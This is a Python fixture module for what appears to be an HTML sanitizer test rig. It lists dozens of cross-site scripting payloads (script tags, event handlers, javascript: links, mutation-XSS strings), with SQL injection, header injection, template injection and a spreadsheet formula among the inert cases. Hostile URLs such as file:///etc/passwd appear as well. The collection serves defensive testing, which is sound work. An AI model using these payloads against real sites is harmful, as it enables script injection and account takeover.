"""Markup that strangers could send, one or more of every class that has ever fired somewhere; all of it written here.

Each is (name, markup, whether it fires in a browser that gets it as it stands). `{canary}` is a server of the rig that
nobody has any reason to ask. `fired(1)` is what a payload calls when it has come alive.
"""

ALIVE = [
    # Elements that run
    ("script", "<script>fired(1)</script>"),
    ("script in capitals", "<SCRIPT>fired(1)</SCRIPT>"),
    ("script with a slash", "<script/x>fired(1)</script>"),
    ("script from elsewhere", "<script src={canary}/script.js></script>"),
    ("script as a module", "<script type=module>fired(1)</script>"),
    ("script broken over lines", "<script\n>fired(1)</script\n>"),
    ("script by data", "<script src='data:text/javascript,fired(1)'></script>"),
    ("script in svg", "<svg><script>fired(1)</script></svg>"),
    ("script in svg by references", "<svg><script>&#102;ired&#40;1)</script></svg>"),
    ("script in svg from elsewhere", "<svg><script href={canary}/script.js></script></svg>"),
    ("script in math", "<math><mtext></mtext></math><script>fired(1)</script>"),
    ("frame", "<iframe src='javascript:parent.fired(1)'></iframe>"),
    ("frame of its own words", "<iframe srcdoc='<script>parent.fired(1)</script>'></iframe>"),
    ("frame of its own words by references", "<iframe srcdoc='&lt;img src=x onerror=parent.fired(1)&gt;'></iframe>"),
    ("object", "<object data={canary}/object.html></object>"),
    ("embed", "<embed src={canary}/embed.html>"),
    # Handlers
    ("picture that fails", "<img src=x: onerror=fired(1)>"),
    ("picture in capitals", "<IMG SRC=x: ONERROR=fired(1)>"),
    ("picture with slashes", "<img/src=x:/onerror=fired(1)>"),
    ("picture with a line end", "<img src=x:\nonerror\n=\nfired(1)>"),
    ("picture with a form feed", "<img\fsrc=x:\fonerror=fired(1)>"),
    ("picture by references", "<img src=x: onerror=&#102;&#x69;red&lpar;1&rpar;>"),
    ("picture with a grave accent", "<img src=x: onerror=fired(`1`)>"),
    ("picture that is called image", "<image src=x: onerror=fired(1)>"),
    ("picture without an end", "<img src=x: onerror=fired(1) "),
    ("sources of a picture", "<picture><source srcset=x:><img onerror=fired(1) src=x:></picture>"),
    ("svg that loads", "<svg onload=fired(1)>"),
    ("svg with a slash", "<svg/onload=fired(1)>"),
    ("animation that begins", "<svg><animate onbegin=fired(1) attributeName=x dur=1s></svg>"),
    ("set that begins", "<svg><set onbegin=fired(1) attributename=x></svg>"),
    ("focus", "<input autofocus onfocus=fired(1)>"),
    ("focus of anything", "<x tabindex=0 autofocus onfocus=fired(1)>x"),
    ("details that open", "<details open ontoggle=fired(1)>x</details>"),
    ("video that fails", "<video><source onerror=fired(1) src=x:></video>"),
    ("audio that fails", "<audio src=x: onerror=fired(1)></audio>"),
    ("body that loads", "<body onload=fired(1)>"),
    ("body that shows", "<body onpageshow=fired(1)>"),
    ("movement of a style", "<style>@keyframes k{}</style><p style='animation:k 1s' onanimationstart=fired(1)>x"),
    ("pointer", "<p onpointerover=fired(1) onmouseover=fired(1)>pass over me</p>"),
    ("click", "<button onclick=fired(1)>press me</button>"),
    ("key", "<div onclick=fired(1) accesskey=x contenteditable>x</div>"),
    # Addresses
    ("script in a link", "<a href='javascript:fired(1)'>press me</a>"),
    ("script in a link in capitals", "<a href='JaVaScRiPt:fired(1)'>press me</a>"),
    ("script in a link with a tab", "<a href='java\tscript:fired(1)'>press me</a>"),
    ("script in a link with a line end", "<a href='java&#10;script:fired(1)'>press me</a>"),
    ("script in a link behind a control character", "<a href='&#1;javascript:fired(1)'>press me</a>"),
    ("script in a link by references", "<a href='&#106;&#97;vascript&colon;fired(1)'>press me</a>"),
    ("script in a link of svg", "<svg><a href='javascript:fired(1)'><text y=20>press me</text></a></svg>"),
    ("script in a form", "<form action='javascript:fired(1)'><button>press me</button></form>"),
    ("script in a button", "<form><button formaction='javascript:fired(1)'>press me</button></form>"),
    # What loads without running
    ("picture from elsewhere", "<img src={canary}/picture.png>"),
    ("picture by srcset", "<img srcset='{canary}/set.png 1x'>"),
    ("style from elsewhere", "<link rel=stylesheet href={canary}/style.css>"),
    ("style that imports", "<style>@import '{canary}/import.css';</style>"),
    ("background in a style", "<p style=\"background:url({canary}/background.png)\">x</p>"),
    ("background of a body", "<body background={canary}/body.png>"),
    ("frame from elsewhere", "<iframe src={canary}/frame.html></iframe>"),
    ("poster of a video", "<video poster={canary}/poster.png></video>"),
    ("picture in svg", "<svg><image href={canary}/svg.png width=9 height=9 /></svg>"),
    ("early loading", "<link rel=preload as=image href={canary}/early.png>"),
    ("refresh", "<meta http-equiv=refresh content='0;url={canary}/refresh'>"),
    ("refresh with a script", "<meta http-equiv=refresh content='0;url={canary}/again'><p>x"),
    ("base", "<base href={canary}/base/><img src=picture.png>"),
    # Ways out of what is around
    ("out of an attribute", "\"><img src=x: onerror=fired(1)>"),
    ("out of a quoted attribute", "'\"><svg onload=fired(1)>"),
    ("out of a title", "</title><script>fired(1)</script>"),
    ("out of a text area", "</textarea><script>fired(1)</script>"),
    ("out of a style", "</style><script>fired(1)</script>"),
    ("out of a script", "</script><script>fired(1)</script>"),
    ("out of a comment", "--><script>fired(1)</script>"),
    ("out of a comment with a sign", "<!--><script>fired(1)</script>-->"),
    ("out of a comment with two", "<!--a--!><script>fired(1)</script>"),
    ("out of a comment that is bogus", "<?a ><script>fired(1)</script>"),
    ("out of a section of XML", "<![CDATA[><script>fired(1)</script>]]>"),
    ("out of everything", "\"'--></title></textarea></style></noscript></template></select></script><svg onload=fired(1)>"),
    # What changes when it is read twice
    ("twice: math and a table", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x: "
                                "onerror=fired(1)&gt;\">"),
    ("twice: svg and a style", "<svg></p><style><a id=\"</style><img src=x: onerror=fired(1)>\">"),
    ("twice: a form in a form", "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=fired(1)>"),
    ("twice: noscript", "<noscript><p title=\"</noscript><img src=x: onerror=fired(1)>\">"),
    ("twice: select", "<select><template></template></select><img src=x: onerror=fired(1)>"),
    ("twice: a table", "<table><caption><svg><title><style></caption></table></style></title><img src=x: onerror=fired(1)>"),
    ("end tags with attributes", "</p/ onload=fired(1)><svg onload=fired(1)>"),
    ("many open elements", "<b>" * 60 + "<img src=x: onerror=fired(1)>"),
    ("null byte in a name", "<scr\0ipt>x</scr\0ipt><svg onload=fired(1)>"),
    ("null byte in a handler", "<img src=x: onerror\0=x onerror=fired(1)>"),
]
QUIET = [
    ("script by data in a link", "<a href='data:text/html,<script>fired(1)</script>'>press me</a>"),
    ("script of another kind in a link", "<a href='vbscript:fired(1)'>press me</a>"),
    ("link to another server without a scheme", "<a href='//{host}/out'>press me</a>"),
    ("form to another server", "<form action={canary}/form><input name=csrf><button>press me</button></form>"),
    ("button to another server", "<button form=search formaction={canary}/button>press me</button>"),
    ("template", "<template><script>fired(1)</script></template>"),
    ("template that hangs", "<template shadowrootmode=open><img src={canary}/shadow.png>"),
    ("script that is commented out", "<!-- <script>fired(1)</script> -->"),
    ("script of another type", "<script type=text/plain>fired(1)</script>"),
    ("script without an end", "<script>fired(1)"),
    ("already escaped", "&lt;script&gt;fired(1)&lt;/script&gt;"),
    ("escaped twice", "&amp;lt;script&amp;gt;fired(1)&amp;lt;/script&amp;gt;"),
    ("references without an end", "&ltscript&gtfired(1)&lt/script&gt &#60script&#62"),
    ("a name that is looked up", "<a id=owned href=x:>x</a><img name=getElementById>"),
    ("a form with names", "<form id=search><input name=action><input name=attributes></form>"),
    ("names of our own page", "<main id=main><ol id=list><div id=flash data-csrf=x></div></ol></main>"),
    ("attributes of our own script", "<a data-row data-to=main href='/sign-out'>x</a>"),
    ("bidi override", "\u202etxt.exe\u202c and \u2066isolated"),
    ("bidi that never ends", "\u2067\u2067\u2067\u2067 \u202b \u202e all turned round"),
    ("control characters", "a\x01\x02\x07\x08\x0b\x1b[31mred\x1b[0m\x7f\x80\x9b31mz"),
    ("null byte", "a\0b<img src=x: onerror=\0>"),
    ("line ends of every kind", "a\rb\r\nc\nd\u2028e\u2029f\x85g"),
    ("zero width", "pa\u200bss\u200cwo\u200drd\ufeff\u2060"),
    ("other angle brackets", "＜script＞fired(1)＜/script＞ ‹script›fired(1)"),
    ("marks upon marks", "Z" + "\u0335\u0322\u0359" * 40 + "algo"),
    ("UTF-7", "+ADw-script+AD4-fired(1)+ADw-/script+AD4-"),
    ("not a character", "a\ufffe\uffff\U0001ffffb"),
    ("expressions of templates", "{{constructor.constructor('fired(1)')()}} ${{fired(1)}} #{{fired(1)}} <%= fired(1) %>"),
    ("words of a database", "'; DROP TABLE post; -- \" OR 1=1"),
    ("formula of a sheet", "=HYPERLINK(\"{canary}/sheet\",\"x\")"),
    ("header", "x\r\nSet-Cookie: owned=1\r\n\r\n<script>fired(1)</script>"),
    ("unclosed tags", "<b><i><u><a href=x:><table><tr><td><select><option"),
    ("end tags without a beginning", "</main></div></body></html></article></section></form>"),
    ("plaintext", "<plaintext>everything behind this"),
    ("listing", "<xmp><script>fired(1)</script>"),
]

# Addresses on their own, where a network says where a post, a person or a picture stands.
BAD_ADDRESSES = [
    "javascript:fired(1)", "JAVASCRIPT:fired(1)", " javascript:fired(1)", "\x01javascript:fired(1)", "java\tscript:fired(1)",
    "java\nscript:fired(1)", "javascript&colon;fired(1)", "javascript://example.org/%0afired(1)", "data:text/html,<script>fired(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5maXJlZCgxKTwvc2NyaXB0Pg==", "vbscript:fired(1)", "//{host}/out", "\\\\{host}\\out",
    "/\\{host}/out", "https:{host}/out", "http:/{host}/out", "file:///etc/passwd", "blob:{canary}/1", "view-source:{canary}/",
    "https://example.org/\" onmouseover=\"fired(1)", "https://example.org/' onmouseover='fired(1)", "https://example.org/><script>fired(1)</script>",
    "intent://x#Intent;scheme=javascript;end", "feed:javascript:fired(1)", "jar:{canary}!/x", "about:blank", "x:y",
]
GOOD_ADDRESSES = [
    "https://example.org/a?b=c&d=e#f", "http://example.org/", "HTTPS://Example.org/Path", "https://example.org/%3Cscript%3E",
    "https://example.org/ü/é?q=日本", "https://user@example.org:8443/a;b=c", "https://[2001:db8::1]/x", "mailto:somebody@example.org",
    "https://example.org/?next=javascript:fired(1)", "https://example.org/'quoted'",
]


def filled(text, address):
    """With the address of the canary in its place."""
    return text.replace("{canary}", address).replace("{host}", address.split("//", 1)[1])


def own(address):
    return [(name, filled(text, address)) for name, text in ALIVE + QUIET]
